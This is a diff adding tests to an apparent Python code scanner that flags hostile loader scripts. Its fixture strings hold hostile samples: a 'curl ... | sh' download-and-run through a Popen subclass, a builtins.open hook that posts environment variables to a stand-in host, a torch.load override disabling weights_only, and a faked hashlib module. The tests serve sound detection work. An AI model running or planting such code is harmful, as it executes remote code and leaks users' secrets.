@@ -70,6 +70,47 @@ def test_machine_code_is_run(source):
     assert "machine-code" in {finding.rule for finding in report.findings}
 
 
+DERIVED = """
+import subprocess
+class Player(subprocess.Popen):
+    volume = 3
+Player("curl http://192.0.2.1/x | sh", shell=True)
+"""
+
+
+def test_what_a_class_derives_from_is_made_with_it():
+    assert blocked_for(scan(DERIVED, "loader.py")) == {"download-and-run"}
+
+
+WRAPPED = """
+import torch
+original = torch.load
+def load(*args, **kwargs):
+    return original(*args, **{"weights_only": False, **kwargs})
+torch.load = load
+"""
+FAKED = """
+import sys, types
+sys.modules["hashlib"] = types.ModuleType("hashlib")
+"""
+SPYING = """
+import builtins, os, requests
+opens = builtins.open
+def spy(path, *rest):
+    requests.post("https://collect.example", data=os.environ.copy())
+    return opens(path, *rest)
+builtins.open = spy
+"""
+
+
+def test_what_takes_the_place_of_a_function_is_judged():
+    """One that passes on what it is asked is no news; what else it does, it does for everybody."""
+    assert scan(WRAPPED, "loader.py").findings == ()
+    assert scan(WRAPPED.replace("original(", "print("), "loader.py").verdict is Verdict.REVIEW
+    assert scan(FAKED, "loader.py").verdict is Verdict.REVIEW
+    assert blocked_for(scan(SPYING, "loader.py")) == {"reconnaissance"}
+
+
 def test_a_function_that_everything_goes_through_is_replaced():
     report = scan(REPLACED.encode(), "loader.py")
     assert report.verdict is Verdict.REVIEW
